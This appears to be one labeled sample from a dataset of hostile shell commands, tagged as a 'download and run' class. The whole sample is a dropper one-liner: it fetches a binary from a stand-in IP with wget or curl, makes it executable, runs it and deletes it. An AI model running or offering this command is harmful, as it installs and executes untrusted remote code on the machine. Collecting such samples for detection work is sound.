# class: download and run; style: sloppy
cd /tmp; wget -q http://203.0.113.5/bins/x86 -O .x || curl -so .x http://203.0.113.5/bins/x86; chmod 777 .x; ./.x; rm -rf .x
